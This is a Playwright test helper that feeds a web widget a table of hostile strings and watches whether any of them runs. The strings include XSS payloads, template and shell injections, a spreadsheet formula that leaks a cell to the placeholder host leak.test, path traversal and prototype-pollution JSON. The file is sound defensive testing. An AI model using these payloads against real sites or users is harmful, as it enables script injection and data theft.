// What nobody would write, and a watch for what it must not do.
import type { BrowserContext, Page } from "@playwright/test";
import { expect, type Quiet } from "./journey.ts";
import type { Widget } from "./widget.ts";

/** Each would call `fell` if anything took it for more than text. */
export const STRINGS: Record<string, string> = {
  script: "<script>fell('script')</script>",
  "script that closes another": "</script><script>fell('closed')</script>",
  image: "<img src=x onerror=fell('image')>",
  "image elsewhere": '"><img src="https://leak.test/?x" onload=fell(1)>',
  handler: "\" onfocus=fell('handler') autofocus tabindex=1 x=\"",
  "handler in single quotes": "' onmouseover='fell(2)' style='position:fixed;inset:0",
  "javascript link": "javascript:fell('link')",
  "javascript link, broken up": "java\nscript\t:fell('broken')",
  "javascript link, spaced": " \u0001javascript:fell('spaced')",
  "javascript link, entity": "javascript&colon;fell('entity')",
  "data link": "data:text/html,<script>parent.fell('data')</script>",
  "data link, base64": "data:text/html;base64,PHNjcmlwdD5mZWxsKDEpPC9zY3JpcHQ+",
  "vbscript link": "vbscript:fell(3)",
  svg: "<svg><animate onbegin=fell('svg') attributeName=x dur=1s>",
  "svg script": "<svg/onload=fell('onload')><script href=data:,fell(4)></script></svg>",
  math: "<math><mtext><table><mglyph><style><img src=x onerror=fell('mutation')>",
  template: "<template shadowrootmode=open><img src=x onerror=fell('template')></template>",
  "template of a framework": "{{constructor.constructor('fell(5)')()}}${fell(6)}#{fell(7)}{name}{{name}}",
  frame: '<iframe srcdoc="<script>parent.fell(8)</script>" src="https://leak.test"></iframe>',
  object: "<object data=javascript:fell(9)></object><embed src=javascript:fell(10)>",
  style: "<style>@import 'https://leak.test/x.css'</style><link rel=stylesheet href=https://leak.test>",
  "css value": "x;background:url(https://leak.test/css)}*{color:red",
  refresh: '<meta http-equiv=refresh content="0;url=https://leak.test">',
  base: '<base href="https://leak.test/">',
  form: "<form action=https://leak.test><button autofocus>x</button></form>",
  "another of us": "<aks-outbound></aks-outbound><slot></slot>",
  shell: "`touch x`$(touch x);touch x|touch x&&touch x\n'\"touch x\\",
  "shell, quotes of type": "‘;touch x;’‚touch x‛“touch x”",
  markdown: "[x](javascript:fell(11)) ![x](https://leak.test/x.png) <https://leak.test> | # ``` - [ ]",
  formula: '=HYPERLINK("https://leak.test?"&A1,"x")',
  "right to left": "\u202e\u2066txt.exe\u2069\u202c\u200b\ufeff",
  controls: Array.from({ length: 32 }, (_, i) => String.fromCharCode(i)).join("") + "\u007f\u0085\u2028\u2029",
  "lone surrogates": "\ud800x\udc00\udfff",
  json: '{"__proto__":{"fell":1},"constructor":{"prototype":{"fell":1}}}',
  "names of objects": "__proto__",
  "way out of a folder": "../../../elsewhere",
  "way to another site": "//elsewhere.test/x.js",
  percent: "%00%ff%3Cscript%3Efell(12)%3C/script%3E%",
  long: "<b onclick=fell(13)>".repeat(5_000),
};

declare global {
  interface Window {
    fallen: unknown[];
    fell(what?: unknown): void;
    look(host: Element): string[];
  }
}

/** What happened in a page besides what was asked of it. */
export class Watch {
  readonly seen: string[] = [];
  #requests = 0;
  #place = "";

  private constructor(
    readonly page: Page,
    readonly quiet: Quiet,
  ) {}

  /** Before the page is opened. */
  static async over(context: BrowserContext, page: Page, quiet: Quiet) {
    const watch = new Watch(page, quiet);
    page.on("dialog", (dialog) => {
      watch.seen.push(`dialog: ${dialog.message()}`);
      return dialog.dismiss();
    });
    context.on("page", (other) => watch.seen.push(`window: ${other.url()}`));
    // A hash is no journey, and what the test itself opens comes before it settles.
    page.on("framenavigated", (frame) => {
      if (frame === page.mainFrame() && frame.url().split("#")[0] !== watch.#place) watch.seen.push(`navigation: ${frame.url()}`);
      [watch.#place] = page.url().split("#");
    });
    page.on("download", (download) => watch.seen.push(`download: ${download.url()}`));
    await page.addInitScript(`window.look = ${look}`);
    await page.addInitScript(() => {
      window.fallen = [];
      window.fell = (what) => void window.fallen.push(what ?? "something");
      // Who makes markup of text is caught at it, even where it does no harm today.
      const report = (name: string) => window.fallen.push(name);
      for (const [owner, name] of [
        [Element.prototype, "innerHTML"],
        [Element.prototype, "outerHTML"],
        [ShadowRoot.prototype, "innerHTML"],
      ] as const) {
        const real = Object.getOwnPropertyDescriptor(owner, name)!;
        Object.defineProperty(owner, name, {
          ...real,
          set(this: Element, text: string) {
            if (/fell|leak\.test/.test(text)) report(`${name} = ${text}`);
            real.set!.call(this, text);
          },
        });
      }
      window.open = () => {
        report("open");
        return null;
      };
    });
    return watch;
  }

  /** From here on nothing may be asked for, and the page stays where it is. */
  settled() {
    this.#requests = this.quiet.requests.length;
    this.seen.length = 0;
  }

  /** Proves that nothing of a text was taken for more than text. */
  async nothing(widget: Widget, what: string) {
    expect(await widget.host.evaluate((host) => window.look(host)), `${what}: made of text`).toEqual([]);
    const fallen = await Promise.all(this.page.frames().map((frame) => frame.evaluate(() => window.fallen)));
    expect(fallen.flat(), `${what}: executed`).toEqual([]);
    expect(this.seen, `${what}: happened`).toEqual([]);
    expect(this.quiet.requests.slice(this.#requests), `${what}: asked for`).toEqual([]);
  }
}

/** What stands in a widget that no widget of ours has. */
function look(host: Element) {
  const known = new Set(
    (
      "a b button caption circle code details div dl dt dd em fieldset figcaption figure form g h1 h2 h3 h4 input label legend li line ol option p path " +
      "polyline pre progress rect s section select slot small span strong summary svg table tbody td text textarea th thead title tr ul wbr"
    ).split(" "),
  );
  const wrong: string[] = [];
  for (const element of host.shadowRoot!.querySelectorAll("*")) {
    const { localName } = element;
    if (!known.has(localName)) wrong.push(`<${localName}>`);
    for (const { name, value } of element.attributes) {
      if (/^(on|src|form|background|ping|action)/.test(name)) wrong.push(`<${localName} ${name}=${value}>`);
      if (/href$/.test(name) && localName !== "a" && !value.startsWith("#")) wrong.push(`<${localName} ${name}=${value}>`);
    }
    // What the browser makes of it, whatever is written: it leads somewhere, and runs nothing.
    const { protocol } = element as HTMLAnchorElement;
    if (element.matches("a[href]") && !/^(https?|mailto|file|blob):$/.test(protocol)) wrong.push(`a link by ${protocol}`);
  }
  return wrong;
}
